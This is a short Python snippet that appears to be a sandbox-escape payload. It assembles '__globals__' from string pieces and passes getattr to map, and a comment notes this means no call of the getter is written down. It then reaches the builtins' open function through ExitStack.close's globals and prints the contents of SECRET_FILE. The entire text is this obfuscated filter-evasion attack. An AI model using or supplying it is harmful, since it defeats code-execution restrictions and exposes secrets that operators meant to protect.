# The getter itself is handed to map, so no call of it is written down.
from contextlib import ExitStack

words = ["_" * 2 + "globals" + "_" * 2]
for names in map(getattr, [ExitStack.close], words):
    print(names["__builtins__"]["open"](SECRET_FILE).read())
